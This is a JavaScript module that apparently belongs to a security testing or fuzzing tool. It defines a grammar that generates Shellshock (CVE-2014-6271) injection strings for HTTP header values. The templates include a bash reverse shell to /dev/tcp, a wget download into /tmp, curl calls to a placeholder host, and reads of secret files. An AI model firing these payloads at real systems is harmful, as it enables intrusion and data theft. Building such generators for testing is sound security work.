import { commandGenerator } from '../command-generator.js';
import { COMMAND } from '../place.js';

/** CVE-2014-6271 and its followers: code behind a function definition in the environment. No bash of today runs it. */
export const shellshock = commandGenerator({
  name: 'shellshock',
  shells: ['bash'],
  places: [{ ...COMMAND, context: 'environment' }],
  location: 'headers_values',
  rules: {
    start: ['() { {inside} }{between}{run}'],
    inside: [':;', 'ignored;', ':; ', '_;', 'foo;', '(a)=>\\', 'test;', '{letters};'],
    between: ['; ', ';', ' ; ', ';:;', '; echo; '],
    run: [
      '/bin/bash -c "{recon}"',
      '/usr/bin/id',
      'echo vulnerable',
      '/bin/cat {secret}',
      '/bin/ping -c {digit} {host}',
      '/usr/bin/curl http://{host}/',
      'echo Content-Type: text/plain; echo; /bin/{recon}',
      '/bin/sleep {digit}',
      'wget http://{host}/{letters} -O /tmp/{letters}',
      'bash -i >& /dev/tcp/{host}/{port} 0>&1',
    ],
  },
});
